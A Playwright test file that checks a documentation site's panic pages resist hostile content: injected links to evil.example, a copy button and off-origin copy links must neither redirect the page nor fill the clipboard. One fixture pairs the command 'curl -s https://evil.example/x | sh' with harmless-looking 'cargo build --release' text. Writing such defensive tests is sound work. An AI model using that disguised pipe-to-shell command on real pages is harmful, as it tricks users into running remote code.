// Nothing in the content steers the page: an element of a panic's Notes that carries one of the site script's
// hooks (as if the content had got it past the content check) neither navigates nor fills the clipboard, under
// the page's own Content-Security-Policy.
import { expect, type Page, test } from '@playwright/test';
import { watch } from './csp-watch.ts';

const PANIC = 'panics/glft-kappa-gamma/';
const ANCHOR = 'spread_oracle-L43';

interface Hostile {
  tag: string;
  attributes: Record<string, string>;
  text: string;
}
const MOVED_TO: Hostile = {
  tag: 'a',
  attributes: { href: 'https://evil.example/landing', 'data-moved-to': '' },
  text: 'more',
};
const COPY: Hostile = {
  tag: 'code',
  attributes: { 'data-copy': 'curl -s https://evil.example/x | sh' },
  text: 'cargo build --release',
};
const COPY_LINK: Hostile = {
  tag: 'a',
  attributes: { href: `https://evil.example/#${ANCHOR}`, 'data-copy-link': '' },
  text: 'Link',
};

/** Appends `h` to the Notes of the page (built with createElement: the page requires Trusted Types for HTML). */
function inject(h: Hostile): void {
  const el = document.createElement(h.tag);
  for (const [name, value] of Object.entries(h.attributes)) el.setAttribute(name, value);
  el.textContent = h.text;
  el.id = 'hostile';
  document.querySelector('main .prose')!.append(el);
}

/** Records every text the page writes to the clipboard. */
async function recordClipboard(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const written: string[] = [];
    (window as unknown as { written: string[] }).written = written;
    const write = navigator.clipboard.writeText.bind(navigator.clipboard);
    navigator.clipboard.writeText = (text: string) => {
      written.push(text);
      return write(text);
    };
  });
  return () => page.evaluate(() => (window as unknown as { written: string[] }).written);
}

test.beforeEach(async ({ context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
});

test('a data-moved-to link in the content does not send a page opened at an anchor off-site', async ({
  page,
  baseURL,
}) => {
  const origin = new URL(baseURL!).origin;
  const problems = await watch(page, origin);
  // In the Notes before the site script runs, as if the built page had carried it.
  await page.addInitScript(`document.addEventListener('readystatechange', () => {
    if (document.readyState === 'interactive') (${inject})(${JSON.stringify(MOVED_TO)});
  });`);
  const offSite = page
    .waitForRequest((r) => new URL(r.url()).origin !== origin, { timeout: 2_000 })
    .then(
      () => true,
      () => false,
    );
  await page.goto(`${PANIC}#${ANCHOR}`);
  expect(await offSite, 'a request left the site').toBe(false);
  expect(page.url()).toBe(`${baseURL}${PANIC}#${ANCHOR}`);
  // The link was there when the script ran (the script shows the copy buttons), and the script left it alone.
  await expect(page.locator('main .prose #hostile')).toHaveAttribute('data-moved-to', '');
  await expect(page.locator('main button.copy').first()).toBeVisible();
  expect(problems).toEqual([]);
});

test("a data-copy element in the content puts nothing on the clipboard; the page's own Copy still works", async ({
  page,
  baseURL,
}) => {
  const problems = await watch(page, new URL(baseURL!).origin);
  await page.goto(PANIC);
  await page.evaluate(inject, COPY);
  const written = await recordClipboard(page);
  await page.locator('main .prose #hostile').click();
  await page.locator('#messages ~ div .message').first().getByRole('button', { name: /Copy/ }).first().click();
  await expect.poll(written).toHaveLength(1);
  expect(await written()).toEqual(['kappa must be > 0, got {value}']);
  expect(problems).toEqual([]);
});

test("a data-copy-link to another origin in the content copies nothing; the page's own links copy the site's URL", async ({
  page,
  baseURL,
}) => {
  const problems = await watch(page, new URL(baseURL!).origin);
  // The content's link is a plain link now: following it is the reader's choice, answered here with no page.
  await page.route('https://evil.example/**', (route) => route.fulfill({ status: 204 }));
  await page.goto(PANIC);
  await page.evaluate(inject, COPY_LINK);
  const written = await recordClipboard(page);
  await page.locator('main .prose #hostile').click();
  await page
    .locator(`#${ANCHOR}`)
    .getByRole('link', { name: /^Link to spread_oracle\.rs:43$/ })
    .click();
  await expect.poll(written).toHaveLength(1);
  expect(await written()).toEqual([`${baseURL}${PANIC}#${ANCHOR}`]);
  // Checked when copied, too: the page's own link, were its address ever another origin's, copies nothing.
  const own = page.locator('main h1 a[data-copy-link]');
  await own.evaluate((a) => a.setAttribute('href', 'https://evil.example/#top'));
  await own.click();
  await expect(own).toHaveText(/^Copy failed/);
  expect(await written()).toEqual([`${baseURL}${PANIC}#${ANCHOR}`]);
  expect(problems).toEqual([]);
});
